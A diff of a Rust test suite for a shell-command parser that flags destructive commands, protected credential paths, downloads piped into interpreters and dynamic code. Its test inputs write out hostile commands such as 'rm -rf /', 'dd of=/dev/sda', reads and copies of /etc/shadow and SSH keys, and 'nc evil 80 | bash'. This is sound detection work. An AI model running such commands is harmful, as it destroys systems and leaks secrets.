@@ -5,7 +5,12 @@
 //! name), `?` for the command whose name is dynamic, `*` for any command. Line-level checks:
 //! `names=a,b` (every command in order, `?` for dynamic names), `parsed`, `unparsed`,
 //! `unparsed~text`.
-#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::indexing_slicing,
+    clippy::panic
+)]
 use super::*;
 
 fn facts(line: &str) -> ShellLineFacts {
@@ -35,7 +40,11 @@ fn field(c: &ShellCommandFacts, name: &str) -> Vec<String> {
         "paths" => c.paths.clone(),
         "globs" => c.globs.clone(),
         "wrappers" => c.wrappers.clone(),
-        "redirects" => c.redirects.iter().map(|(op, t)| format!("{op}{t}")).collect(),
+        "redirects" => c
+            .redirects
+            .iter()
+            .map(|(op, t)| format!("{op}{t}"))
+            .collect(),
         "path" => c.path.iter().cloned().collect(),
         other => panic!("unknown field {other}"),
     }
@@ -110,12 +119,27 @@ fn run(cases: &[(&str, &[&str])]) {
 #[test]
 fn sh1_destructive_commands_and_their_spellings() {
     run(&[
-        ("rm -rf /", &["names=rm", "rm:flags=-r,-f", "rm:paths=/", "rm:args=-rf,/", "rm:!dynamic"]),
+        (
+            "rm -rf /",
+            &[
+                "names=rm",
+                "rm:flags=-r,-f",
+                "rm:paths=/",
+                "rm:args=-rf,/",
+                "rm:!dynamic",
+            ],
+        ),
         ("rm -fr /", &["rm:flags=-f,-r"]),
         ("rm -r -f /tmp/x", &["rm:flags=-r,-f", "rm:paths=/tmp/x"]),
         ("rm -Rf /", &["rm:flags=-R,-f"]),
-        ("rm --recursive --force /", &["rm:flags=--recursive,--force"]),
-        ("rm --recursive --force=yes /", &["rm:flags=--recursive,--force"]),
+        (
+            "rm --recursive --force /",
+            &["rm:flags=--recursive,--force"],
+        ),
+        (
+            "rm --recursive --force=yes /",
+            &["rm:flags=--recursive,--force"],
+        ),
         ("rm -r dir", &["rm:flags=-r"]),
         ("rm -- -rf", &["rm:flags=", "rm:args=--,-rf"]),
         ("\\rm -rf /", &["names=rm", "rm:flags=-r,-f"]),
@@ -129,14 +153,40 @@ fn sh1_destructive_commands_and_their_spellings() {
         ("rm -rf /*", &["rm:globs=/*", "rm:paths+=/*"]),
         ("rm -rf ~", &["rm:paths=~"]),
         ("find / -delete", &["find:flags=-delete", "find:paths=/"]),
-        ("find /tmp -name x -exec rm -rf {} \\;", &["names=find,rm", "rm:wrappers=find", "rm:flags=-r,-f", "rm:args=-rf,{}"]),
-        ("find / -execdir shred -u {} +", &["names=find,shred", "shred:wrappers=find"]),
-        ("find / -ok rm {} \\; -exec wipefs {} \\;", &["names=find,rm,wipefs"]),
-        ("mkfs.ext4 /dev/sda1", &["names=mkfs.ext4", "mkfs.ext4:paths=/dev/sda1"]),
+        (
+            "find /tmp -name x -exec rm -rf {} \\;",
+            &[
+                "names=find,rm",
+                "rm:wrappers=find",
+                "rm:flags=-r,-f",
+                "rm:args=-rf,{}",
+            ],
+        ),
+        (
+            "find / -execdir shred -u {} +",
+            &["names=find,shred", "shred:wrappers=find"],
+        ),
+        (
+            "find / -ok rm {} \\; -exec wipefs {} \\;",
+            &["names=find,rm,wipefs"],
+        ),
+        (
+            "mkfs.ext4 /dev/sda1",
+            &["names=mkfs.ext4", "mkfs.ext4:paths=/dev/sda1"],
+        ),
         ("wipefs -a /dev/sda", &["names=wipefs", "wipefs:flags=-a"]),
         ("shred -u secret.txt", &["names=shred"]),
-        ("dd if=/dev/zero of=/dev/sda bs=1M", &["dd:args=if=/dev/zero,of=/dev/sda,bs=1M", "dd:paths=/dev/zero,/dev/sda"]),
-        ("dd if=/dev/zero of=/dev/null", &["dd:paths=/dev/zero,/dev/null"]),
+        (
+            "dd if=/dev/zero of=/dev/sda bs=1M",
+            &[
+                "dd:args=if=/dev/zero,of=/dev/sda,bs=1M",
+                "dd:paths=/dev/zero,/dev/sda",
+            ],
+        ),
+        (
+            "dd if=/dev/zero of=/dev/null",
+            &["dd:paths=/dev/zero,/dev/null"],
+        ),
         ("dd of=/dev//sda if=x", &["dd:paths=/dev/sda"]),
         ("shutdown -h now", &["names=shutdown", "shutdown:flags=-h"]),
         ("reboot", &["names=reboot", "reboot:args="]),
@@ -154,31 +204,65 @@ fn sh1_destructive_commands_and_their_spellings() {
 #[test]
 fn wrappers_are_seen_through() {
     run(&[
-        ("sudo -u root rm -rf /", &["names=sudo,rm", "rm:wrappers=sudo", "rm:flags=-r,-f", "sudo:flags=-u", "sudo:wrappers="]),
+        (
+            "sudo -u root rm -rf /",
+            &[
+                "names=sudo,rm",
+                "rm:wrappers=sudo",
+                "rm:flags=-r,-f",
+                "sudo:flags=-u",
+                "sudo:wrappers=",
+            ],
+        ),
         ("sudo -uroot -E -- rm -rf /", &["names=sudo,rm"]),
         ("sudo VAR=1 rm -rf /", &["names=sudo,rm"]),
         ("sudo -i", &["names=sudo"]),
         ("sudo -s", &["names=sudo"]),
         ("sudo -l", &["names=sudo"]),
-        ("sudo -e /etc/shadow", &["names=sudo", "sudo:paths=/etc/shadow"]),
-        ("sudo sudo rm -rf /", &["names=sudo,sudo,rm", "rm:wrappers=sudo,sudo"]),
-        ("doas -u root rm -rf /", &["names=doas,rm", "rm:wrappers=doas"]),
+        (
+            "sudo -e /etc/shadow",
+            &["names=sudo", "sudo:paths=/etc/shadow"],
+        ),
+        (
+            "sudo sudo rm -rf /",
+            &["names=sudo,sudo,rm", "rm:wrappers=sudo,sudo"],
+        ),
+        (
+            "doas -u root rm -rf /",
+            &["names=doas,rm", "rm:wrappers=doas"],
+        ),
         ("pkexec rm -rf /", &["names=pkexec,rm"]),
         ("runuser -u app -- rm -rf /", &["names=runuser,rm"]),
         ("runuser -l app -c 'rm -rf /'", &["names=runuser,rm"]),
-        ("su - root -c 'rm -rf /'", &["names=su,rm", "rm:wrappers=su"]),
+        (
+            "su - root -c 'rm -rf /'",
+            &["names=su,rm", "rm:wrappers=su"],
+        ),
         ("su -c 'rm -rf /' root", &["names=su,rm"]),
         ("su -", &["names=su"]),
-        ("xargs rm -rf", &["names=xargs,rm", "rm:wrappers=xargs", "rm:flags=-r,-f"]),
+        (
+            "xargs rm -rf",
+            &["names=xargs,rm", "rm:wrappers=xargs", "rm:flags=-r,-f"],
+        ),
         ("find . | xargs -0 -n 1 rm -rf", &["names=find,xargs,rm"]),
         ("xargs -I {} rm -rf {}", &["names=xargs,rm"]),
         ("env X=1 rm -rf /", &["names=env,rm", "rm:wrappers=env"]),
         ("env -i -u HOME PATH=/bin rm -rf /", &["names=env,rm"]),
         ("env -S 'rm -rf /'", &["names=env,rm"]),
-        ("nice -n 5 nohup rm -rf /", &["names=nice,nohup,rm", "rm:wrappers=nice,nohup", "nohup:wrappers=nice"]),
+        (
+            "nice -n 5 nohup rm -rf /",
+            &[
+                "names=nice,nohup,rm",
+                "rm:wrappers=nice,nohup",
+                "nohup:wrappers=nice",
+            ],
+        ),
         ("nice -5 rm -rf /", &["names=nice,rm"]),
         ("timeout 5 rm -rf /", &["names=timeout,rm"]),
-        ("timeout -s KILL --preserve-status 5s rm -rf /", &["names=timeout,rm"]),
+        (
+            "timeout -s KILL --preserve-status 5s rm -rf /",
+            &["names=timeout,rm"],
+        ),
         ("stdbuf -o0 rm -rf /", &["names=stdbuf,rm"]),
         ("stdbuf -o L -e 0 rm -rf /", &["names=stdbuf,rm"]),
         ("exec rm -rf /", &["names=exec,rm"]),
@@ -195,15 +279,30 @@ fn wrappers_are_seen_through() {
         ("taskset -c 0,1 rm -rf /", &["names=taskset,rm"]),
         ("taskset 0x1 rm -rf /", &["names=taskset,rm"]),
         ("busybox rm -rf /", &["names=busybox,rm"]),
-        ("busybox sh -c 'rm -rf /'", &["names=busybox,sh,rm", "rm:wrappers=busybox,sh"]),
-        ("watch -n 1 'rm -rf /'", &["names=watch,rm", "rm:wrappers=watch"]),
+        (
+            "busybox sh -c 'rm -rf /'",
+            &["names=busybox,sh,rm", "rm:wrappers=busybox,sh"],
+        ),
+        (
+            "watch -n 1 'rm -rf /'",
+            &["names=watch,rm", "rm:wrappers=watch"],
+        ),
         ("watch -x rm -rf /", &["names=watch,rm"]),
-        ("eval 'rm -rf /'", &["names=eval,rm", "eval:!dynamic", "rm:wrappers=eval"]),
+        (
+            "eval 'rm -rf /'",
+            &["names=eval,rm", "eval:!dynamic", "rm:wrappers=eval"],
+        ),
         ("eval rm -rf /", &["names=eval,rm"]),
-        ("sh -c 'bash -c \"rm -rf /\"'", &["names=sh,bash,rm", "rm:wrappers=sh,bash", "sh:!dynamic"]),
+        (
+            "sh -c 'bash -c \"rm -rf /\"'",
+            &["names=sh,bash,rm", "rm:wrappers=sh,bash", "sh:!dynamic"],
+        ),
         ("bash -lc 'rm -rf /'", &["names=bash,rm"]),
         ("bash -o pipefail -c 'rm -rf /'", &["names=bash,rm"]),
-        ("sudo nice -n 5 sh -c 'rm -rf /'", &["names=sudo,nice,sh,rm", "rm:wrappers=sudo,nice,sh"]),
+        (
+            "sudo nice -n 5 sh -c 'rm -rf /'",
+            &["names=sudo,nice,sh,rm", "rm:wrappers=sudo,nice,sh"],
+        ),
         ("alias ls='rm -rf /'", &["names=alias,rm"]),
         ("trap 'rm -rf /' EXIT", &["names=trap,rm"]),
         ("script -qc 'rm -rf /' /dev/null", &["names=script,rm"]),
@@ -220,7 +319,10 @@ fn every_construct_that_runs_commands_is_walked() {
         ("true && rm -rf / || echo", &["names=true,rm,echo"]),
         ("a | b | c", &["names=a,b,c"]),
         ("a; b & c", &["names=a,b,c"]),
-        ("if true; then rm -rf /; elif x; then y; else z; fi", &["names=true,rm,x,y,z"]),
+        (
+            "if true; then rm -rf /; elif x; then y; else z; fi",
+            &["names=true,rm,x,y,z"],
+        ),
         ("while true; do rm -rf /; done", &["names=true,rm"]),
         ("until false; do rm -rf /; done", &["names=false,rm"]),
         ("for i in $(ls); do rm -rf $i; done", &["names=ls,rm"]),
@@ -252,48 +354,107 @@ fn sh2_protected_paths() {
         ("cat \"/etc/shadow\"", &["cat:paths=/etc/shadow"]),
         ("cat '/etc/gshadow'", &["cat:paths=/etc/gshadow"]),
         ("cat /etc/sh''adow", &["cat:paths=/etc/shadow"]),
-        ("cat < /etc/shadow", &["cat:redirects=</etc/shadow", "cat:paths=/etc/shadow"]),
+        (
+            "cat < /etc/shadow",
+            &["cat:redirects=</etc/shadow", "cat:paths=/etc/shadow"],
+        ),
         ("cat 0</etc//shadow", &["cat:paths=/etc/shadow"]),
         ("cp ~/.ssh/id_rsa /tmp", &["cp:paths=~/.ssh/id_rsa,/tmp"]),
         ("cat ~/.ssh/id_rsa.pub", &["cat:paths=~/.ssh/id_rsa.pub"]),
-        ("cat /etc/sha*", &["cat:paths+=/etc/shadow", "cat:globs=/etc/sha*"]),
+        (
+            "cat /etc/sha*",
+            &["cat:paths+=/etc/shadow", "cat:globs=/etc/sha*"],
+        ),
         ("cat /etc/sh?dow", &["cat:paths+=/etc/shadow"]),
         ("cat /e*/[s]hadow", &["cat:paths+=/etc/shadow"]),
         ("cat /etc/*", &["cat:paths+=/etc/shadow,/etc/gshadow"]),
         ("cat '/etc/sha*'", &["cat:paths=/etc/sha*", "cat:globs="]),
         ("cat ~/.ssh/id_*", &["cat:paths+=~/.ssh/id_rsa"]),
         ("cat ~/.ssh/*.pub", &["cat:paths=~/.ssh/*.pub"]),
-        ("cat /root/.ssh/authorized_keys", &["cat:paths=/root/.ssh/authorized_keys"]),
+        (
+            "cat /root/.ssh/authorized_keys",
+            &["cat:paths=/root/.ssh/authorized_keys"],
+        ),
         ("cat /r??t/.ssh/config", &["cat:paths+=/root/.ssh/config"]),
-        ("cat /etc/{passwd,shadow}", &["cat:paths+=/etc/shadow,/etc/passwd"]),
+        (
+            "cat /etc/{passwd,shadow}",
+            &["cat:paths+=/etc/shadow,/etc/passwd"],
+        ),
         ("cat ../../../etc/shadow", &["cat:paths+=/etc/shadow"]),
         ("dd if=/etc/shadow of=/tmp/x", &["dd:paths+=/etc/shadow"]),
-        ("> /etc/shadow", &["names=?", "?:redirects=>/etc/shadow", "?:paths=/etc/shadow", "?:!dynamic"]),
-        ("echo x >> /etc/shadow", &["echo:redirects=>>/etc/shadow", "echo:paths=/etc/shadow"]),
+        (
+            "> /etc/shadow",
+            &[
+                "names=?",
+                "?:redirects=>/etc/shadow",
+                "?:paths=/etc/shadow",
+                "?:!dynamic",
+            ],
+        ),
+        (
+            "echo x >> /etc/shadow",
+            &["echo:redirects=>>/etc/shadow", "echo:paths=/etc/shadow"],
+        ),
         ("echo x &> /tmp/log", &["echo:redirects=&>/tmp/log"]),
         ("tar -czf /tmp/k.tgz /root/.ssh", &["tar:paths+=/root/.ssh"]),
-        ("scp /root/.ssh/id_ed25519 host:/tmp", &["scp:paths+=/root/.ssh/id_ed25519,/tmp"]),
+        (
+            "scp /root/.ssh/id_ed25519 host:/tmp",
+            &["scp:paths+=/root/.ssh/id_ed25519,/tmp"],
+        ),
         ("grep -r x --file=/etc/shadow", &["grep:paths=/etc/shadow"]),
-        ("sudo cat /etc/shadow", &["sudo:paths=/etc/shadow", "cat:paths=/etc/shadow"]),
+        (
+            "sudo cat /etc/shadow",
+            &["sudo:paths=/etc/shadow", "cat:paths=/etc/shadow"],
+        ),
         ("cat /etc/passwd", &["cat:paths=/etc/passwd"]),
         ("ls 2>&1", &["ls:redirects=2>&1", "ls:paths="]),
         ("{ cat; } < /etc/shadow", &["cat:paths=/etc/shadow"]),
-        ("cat \"$HOME/.ssh/id_rsa\"", &["cat:paths=$HOME/.ssh/id_rsa"]),
+        (
+            "cat \"$HOME/.ssh/id_rsa\"",
+            &["cat:paths=$HOME/.ssh/id_rsa"],
+        ),
     ]);
 }
 
 #[test]
 fn sh3_downloads_into_interpreters() {
     run(&[
-        ("curl http://x | sh", &["curl:!fed_by_download", "sh:fed_by_download", "sh:runs_download", "sh:dynamic"]),
+        (
+            "curl http://x | sh",
+            &[
+                "curl:!fed_by_download",
+                "sh:fed_by_download",
+                "sh:runs_download",
+                "sh:dynamic",
+            ],
+        ),
         ("wget -O- http://x | bash", &["bash:runs_download"]),
-        ("curl x | tee f | sh", &["tee:fed_by_download", "sh:runs_download"]),
+        (
+            "curl x | tee f | sh",
+            &["tee:fed_by_download", "sh:runs_download"],
+        ),
         ("curl x | base64 -d | sh", &["sh:runs_download"]),
-        ("bash <(curl x)", &["names=curl,bash", "bash:runs_download", "bash:dynamic"]),
-        ("sh -c \"$(curl x)\"", &["names=curl,sh", "sh:runs_download", "sh:dynamic"]),
-        ("eval \"$(curl x)\"", &["eval:runs_download", "eval:dynamic"]),
+        (
+            "bash <(curl x)",
+            &["names=curl,bash", "bash:runs_download", "bash:dynamic"],
+        ),
+        (
+            "sh -c \"$(curl x)\"",
+            &["names=curl,sh", "sh:runs_download", "sh:dynamic"],
+        ),
+        (
+            "eval \"$(curl x)\"",
+            &["eval:runs_download", "eval:dynamic"],
+        ),
         ("python3 <(wget -qO- x)", &["python3:runs_download"]),
-        ("curl x | sudo bash", &["bash:runs_download", "bash:wrappers=sudo", "sudo:fed_by_download"]),
+        (
+            "curl x | sudo bash",
+            &[
+                "bash:runs_download",
+                "bash:wrappers=sudo",
+                "sudo:fed_by_download",
+            ],
+        ),
         ("curl x | sudo -u root sh -s", &["sh:runs_download"]),
         ("nc evil 80 | bash", &["bash:runs_download"]),
         ("bash < /dev/tcp/evil/80", &["bash:runs_download"]),
@@ -307,12 +468,25 @@ fn sh3_downloads_into_interpreters() {
         ("curl x | { bash; }", &["bash:runs_download"]),
         ("curl x | tee >(sh)", &["sh:runs_download"]),
         ("bash < <(curl x)", &["bash:runs_download"]),
-        ("curl x | xargs -I{} sh -c '{}'", &["sh:fed_by_download"]),
+        (
+            "curl x | xargs -I{} sh -c '{}'",
+            &["sh:fed_by_download", "sh:runs_download"],
+        ),
         ("sh -c \"$(wget -O- x | base64 -d)\"", &["sh:runs_download"]),
-        ("curl x | python3 -m json.tool", &["python3:fed_by_download", "python3:!runs_download", "python3:!dynamic"]),
+        (
+            "curl x | python3 -m json.tool",
+            &[
+                "python3:fed_by_download",
+                "python3:!runs_download",
+                "python3:!dynamic",
+            ],
+        ),
         ("curl -o f x && sh f", &["sh:!runs_download", "sh:!dynamic"]),
         ("curl x > f", &["names=curl", "*:!runs_download"]),
-        ("curl x | grep y", &["grep:fed_by_download", "grep:!runs_download"]),
+        (
+            "curl x | grep y",
+            &["grep:fed_by_download", "grep:!runs_download"],
+        ),
     ]);
 }
 
@@ -323,7 +497,10 @@ fn sh4_privilege_escalation_is_reported() {
         ("sudo -u postgres psql", &["names=sudo,psql"]),
         ("pkexec ls", &["names=pkexec,ls"]),
         ("doas ls", &["names=doas,ls"]),
-        ("sudo $cmd", &["names=sudo,?", "?:dynamic", "?:wrappers=sudo"]),
+        (
+            "sudo $cmd",
+            &["names=sudo,?", "?:dynamic", "?:wrappers=sudo"],
+        ),
     ]);
 }
 
@@ -333,7 +510,10 @@ fn sh5_dynamic_code() {
         ("$x", &["names=?", "?:dynamic"]),
         ("\"$cmd\" arg", &["?:dynamic", "?:args=arg"]),
         ("${x}rm -rf /", &["?:dynamic"]),
-        ("$(echo rm) -rf /", &["names=echo,?", "?:dynamic", "?:args=-rf,/"]),
+        (
+            "$(echo rm) -rf /",
+            &["names=echo,?", "?:dynamic", "?:args=-rf,/"],
+        ),
         ("`which rm` -rf /", &["names=which,?", "?:dynamic"]),
         ("rm${IFS}-rf /", &["names=?", "?:dynamic"]),
         ("/bin/r? -rf /", &["?:dynamic"]),
@@ -342,7 +522,10 @@ fn sh5_dynamic_code() {
         (". ./lit.sh", &[".:!dynamic"]),
         ("source ~/.bashrc", &["source:!dynamic"]),
         ("eval \"$cmd\"", &["eval:dynamic"]),
-        ("echo x | sh", &["sh:dynamic", "sh:!runs_download", "sh:interpreter_stdin"]),
+        (
+            "echo x | sh",
+            &["sh:dynamic", "sh:!runs_download", "sh:interpreter_stdin"],
+        ),
         ("echo ls | bash -s", &["bash:dynamic"]),
         ("bash <<EOF\nls\nEOF", &["bash:dynamic"]),
         ("bash <<< 'ls'", &["bash:dynamic"]),
@@ -358,7 +541,10 @@ fn sh5_dynamic_code() {
         ("awk 'BEGIN{system(\"rm -rf /\")}'", &["awk:dynamic"]),
         ("awk '{print $1}' f", &["awk:!dynamic"]),
         ("sh -c \"$cmd\"", &["sh:dynamic"]),
-        ("sh -c 'ls'", &["names=sh,ls", "sh:!dynamic", "ls:wrappers=sh"]),
+        (
+            "sh -c 'ls'",
+            &["names=sh,ls", "sh:!dynamic", "ls:wrappers=sh"],
+        ),
         ("python3 script.py", &["python3:!dynamic"]),
         ("sh script.sh", &["sh:!dynamic", "sh:!interpreter_stdin"]),
         ("sh < script.sh", &["sh:!dynamic"]),
@@ -371,21 +557,33 @@ fn sh5_dynamic_code() {
 #[test]
 fn sh6_service_and_package_changes() {
     run(&[
-        ("systemctl restart app", &["systemctl:args=restart,app", "systemctl:flags="]),
-        ("systemctl --now enable app", &["systemctl:args=--now,enable,app", "systemctl:flags=--now"]),
+        (
+            "systemctl restart app",
+            &["systemctl:args=restart,app", "systemctl:flags="],
+        ),
+        (
+            "systemctl --now enable app",
+            &["systemctl:args=--now,enable,app", "systemctl:flags=--now"],
+        ),
         ("service nginx stop", &["service:args=nginx,stop"]),
         ("kill -9 1", &["kill:flags=-9", "kill:args=-9,1"]),
         ("kill -s KILL 1", &["kill:args=-s,KILL,1"]),
         ("pkill -f x", &["names=pkill"]),
         ("killall x", &["names=killall"]),
         ("apt-get install x", &["apt-get:args=install,x"]),
-        ("apt-get -y install x", &["apt-get:args=-y,install,x", "apt-get:flags=-y"]),
+        (
+            "apt-get -y install x",
+            &["apt-get:args=-y,install,x", "apt-get:flags=-y"],
+        ),
         ("apt update", &["apt:args=update"]),
         ("yum remove x", &["yum:args=remove,x"]),
         ("dpkg -i x.deb", &["dpkg:flags=-i"]),
         ("pip install x", &["pip:args=install,x"]),
         ("pip3 uninstall -y x", &["pip3:args=uninstall,-y,x"]),
-        ("python3 -m pip install x", &["python3:args=-m,pip,install,x", "python3:!dynamic"]),
+        (
+            "python3 -m pip install x",
+            &["python3:args=-m,pip,install,x", "python3:!dynamic"],
+        ),
         ("iptables -F", &["iptables:flags=-F"]),
         ("nft flush ruleset", &["nft:args=flush,ruleset"]),
     ]);
@@ -394,14 +592,40 @@ fn sh6_service_and_package_changes() {
 #[test]
 fn read_only_inspection_is_plain() {
     run(&[
-        ("journalctl -u app", &["names=journalctl", "journalctl:flags=-u", "journalctl:args=-u,app", "journalctl:!dynamic"]),
+        (
+            "journalctl -u app",
+            &[
+                "names=journalctl",
+                "journalctl:flags=-u",
+                "journalctl:args=-u,app",
+                "journalctl:!dynamic",
+            ],
+        ),
         ("systemctl status app", &["systemctl:args=status,app"]),
-        ("ls -la", &["names=ls", "ls:flags=-l,-a", "ls:args=-la", "ls:paths=", "ls:wrappers="]),
-        ("tail -n 100 /var/log/syslog", &["tail:paths=/var/log/syslog", "tail:flags=-n"]),
-        ("grep -r foo /var/log | head -5", &["names=grep,head", "head:!fed_by_download"]),
+        (
+            "ls -la",
+            &[
+                "names=ls",
+                "ls:flags=-l,-a",
+                "ls:args=-la",
+                "ls:paths=",
+                "ls:wrappers=",
+            ],
+        ),
+        (
+            "tail -n 100 /var/log/syslog",
+            &["tail:paths=/var/log/syslog", "tail:flags=-n"],
+        ),
+        (
+            "grep -r foo /var/log | head -5",
+            &["names=grep,head", "head:!fed_by_download"],
+        ),
         ("ps aux", &["ps:args=aux"]),
         ("df -h && free -m && uptime", &["names=df,free,uptime"]),
-        ("cat /var/log/app.log | grep ERROR | tail", &["names=cat,grep,tail", "*:!dynamic"]),
+        (
+            "cat /var/log/app.log | grep ERROR | tail",
+            &["names=cat,grep,tail", "*:!dynamic"],
+        ),
     ]);
 }
 
@@ -435,7 +659,9 @@ fn shell_quote(code: &str) -> String {
 
 #[test]
 fn nesting_within_limits_is_fine() {
-    let c = (0..5).fold("rm -rf /".to_owned(), |code, _| format!("sh -c {}", shell_quote(&code)));
+    let c = (0..5).fold("rm -rf /".to_owned(), |code, _| {
+        format!("sh -c {}", shell_quote(&code))
+    });
     let f = facts(&c);
     assert!(f.unparsed.is_none(), "{f:?}");
     let rm = f.commands.iter().find(|c| c.name == "rm").unwrap();
@@ -451,19 +677,32 @@ fn huge_and_deep_lines_return_promptly_on_a_small_stack() {
             let limits = ShellLimits::default();
             let pipeline = vec!["a"; 10_000].join(" | ");
             let f = extract(&pipeline, &limits);
-            assert!(f.unparsed.as_deref().unwrap_or_default().contains("1024"), "{:?}", f.unparsed);
+            assert!(
+                f.unparsed.as_deref().unwrap_or_default().contains("1024"),
+                "{:?}",
+                f.unparsed
+            );
             let list = vec!["a"; 10_000].join(" && ");
             assert!(extract(&list, &limits).unparsed.is_some());
             let parens = format!("{}ls{}", "(".repeat(10_000), ")".repeat(10_000));
             assert!(extract(&parens, &limits).unparsed.is_some());
             let braces = format!("{}ls;{}", "{ ".repeat(5_000), " }".repeat(5_000));
             assert!(extract(&braces, &limits).unparsed.is_some());
-            let ifs = format!("{}ls{}", "if true; then ".repeat(3_000), "; fi".repeat(3_000));
+            let ifs = format!(
+                "{}ls{}",
+                "if true; then ".repeat(3_000),
+                "; fi".repeat(3_000)
+            );
             assert!(extract(&ifs, &limits).unparsed.is_some());
             let subst = format!("{}ls{}", "$(".repeat(10_000), ")".repeat(10_000));
             assert!(extract(&subst, &limits).unparsed.is_some());
             let nots = format!("[[ {} -n x ]]", "! ".repeat(10_000));
-            let _ = extract(&nots, &limits);
+            assert!(extract(&nots, &limits).unparsed.is_some());
+            let ands = format!("[[ {} -n x ]]", "-n x && ".repeat(5_000));
+            assert!(extract(&ands, &limits).unparsed.is_some());
+            let heredocs = format!("cat {}\nEOF\n", "<<EOF ".repeat(2_000));
+            let message = extract(&heredocs, &limits).unparsed.unwrap();
+            assert!(message.len() < 400, "{message}");
             // Within limits: a 40-deep subshell still parses.
             let ok = format!("{}rm -rf /{}", "(".repeat(40), ")".repeat(40));
             let f = extract(&ok, &limits);
@@ -473,7 +712,10 @@ fn huge_and_deep_lines_return_promptly_on_a_small_stack() {
         .unwrap()
         .join()
         .expect("no stack overflow");
-    assert!(result < std::time::Duration::from_secs(20), "took {result:?}");
+    assert!(
+        result < std::time::Duration::from_secs(20),
+        "took {result:?}"
+    );
 }
 
 #[test]
@@ -483,10 +725,22 @@ fn limits_are_configurable() {
         max_commands: 2,
         max_depth: 1,
     };
-    assert!(extract("echo 12345678901", &limits).unparsed.unwrap().contains("10 bytes"));
-    assert!(extract("a;b;c", &limits).unparsed.unwrap().contains("2 commands"));
-    assert!(extract("a;b", &limits).unparsed.is_none());
-    assert!(extract("sh -c 'sh -c ls'", &ShellLimits { max_depth: 1, ..ShellLimits::default() })
+    assert!(extract("echo 12345678901", &limits)
         .unparsed
-        .is_some());
+        .unwrap()
+        .contains("10 bytes"));
+    assert!(extract("a;b;c", &limits)
+        .unparsed
+        .unwrap()
+        .contains("2 commands"));
+    assert!(extract("a;b", &limits).unparsed.is_none());
+    assert!(extract(
+        "sh -c 'sh -c ls'",
+        &ShellLimits {
+            max_depth: 1,
+            ..ShellLimits::default()
+        }
+    )
+    .unparsed
+    .is_some());
 }
